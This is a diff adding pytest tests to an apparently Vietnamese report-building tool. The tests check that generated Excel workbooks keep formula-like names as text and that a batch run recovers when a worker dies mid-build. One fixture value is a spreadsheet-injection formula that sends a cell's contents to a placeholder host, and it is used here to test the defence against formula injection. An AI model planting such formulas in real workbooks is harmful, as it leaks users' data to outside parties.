@@ -213,3 +213,77 @@ def test_a_template_carrying_outside_content_is_refused_naming_the_part(province
     assert (code, errors(output)) == (1, [expected])
     code, output = build(province_copy)
     assert code == 1 and f"  - {expected}" in output
+
+
+# --- Nothing altered: generated workbooks hold text as text --------------------------------------
+
+FORMULA_LIKE = ('=HYPERLINK("http://example.invalid/?"&B3,"bấm")', "+84 912 345 678",
+                "-5% so với năm trước", "@Sở KH&CN", "=1+1")
+
+
+def _formulas_in(data: bytes) -> list[str]:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
+                and (b"<f>" in z.read(n) or b"<f " in z.read(n))]
+
+
+def test_the_indicator_workbook_writes_formula_like_names_as_text():
+    import io
+    from types import SimpleNamespace
+
+    import openpyxl
+
+    from ncnsc_reports.outputs.indicator_book import indicator_workbook
+
+    lines = [SimpleNamespace(code=f"CT{i}", name=name, unit="%", period_target=10,
+                             year_result=1, cumulative=2, completion=None)
+             for i, name in enumerate(FORMULA_LIKE)]
+    data = indicator_workbook(SimpleNamespace(indicators=lines, year=2023, first_year=2021),
+                              False)
+    assert _formulas_in(data) == []
+    ws = openpyxl.load_workbook(io.BytesIO(data))["Chỉ tiêu"]
+    assert [ws.cell(r, 2).value for r in range(2, 7)] == list(FORMULA_LIKE)
+    assert {ws.cell(r, 2).data_type for r in range(2, 7)} == {"s"}
+
+
+def test_a_generated_input_workbook_writes_formula_like_text_as_text(tmp_path):
+    import openpyxl
+
+    from ncnsc_reports.inputs.blank import write_workbook
+    from ncnsc_reports.inputs.schema import YEAR_SHEETS
+
+    spec = YEAR_SHEETS[0]
+    rows = {spec.name: [(text,) * len(spec.columns) for text in FORMULA_LIKE]}
+    path = write_workbook(tmp_path / "so.xlsx", YEAR_SHEETS, rows, "Sổ thử")
+    assert _formulas_in(path.read_bytes()) == []
+    ws = openpyxl.load_workbook(path)[spec.name]
+    assert [ws.cell(r, 1).value for r in range(2, 7)] == list(FORMULA_LIKE)
+
+
+# --- Faults end cleanly -----------------------------------------------------------------------------
+
+def test_a_worker_killed_mid_batch_is_that_reports_failure_and_the_others_finish(tmp_path):
+    import shutil
+
+    from conftest import ROOT
+
+    from ncnsc_reports.batch import build_all, discover
+
+    inputs = tmp_path / "inputs"
+    for province in ("hung-yen", "tien-giang"):
+        shutil.copytree(ROOT / "inputs" / province, inputs / province)
+    shutil.copytree(inputs / "hung-yen" / "2023", inputs / "hung-yen" / "2022")
+    shutil.copytree(ROOT / "templates", tmp_path / "templates")
+    start = time.monotonic()
+    items = build_all(discover(inputs), {}, jobs=2, worker=hostile.dying_build)
+    assert time.monotonic() - start < 60
+    assert [(item.name, bool(item.result)) for item in items] == [
+        ("hung-yen/2022", False), ("hung-yen/2023", True), ("tien-giang/2021", True)]
+    assert items[0].failure == (
+        "Lỗi: tiến trình tạo báo cáo này bị dừng đột ngột (thường do máy hết bộ nhớ); chưa ghi "
+        "tệp nào của báo cáo này. Hãy đóng bớt chương trình rồi chạy lại riêng báo cáo này.",)
+    assert all(item.result.path.is_file() for item in items[1:])
+    assert not (tmp_path / "outputs" / "hung-yen" / "2022").exists()
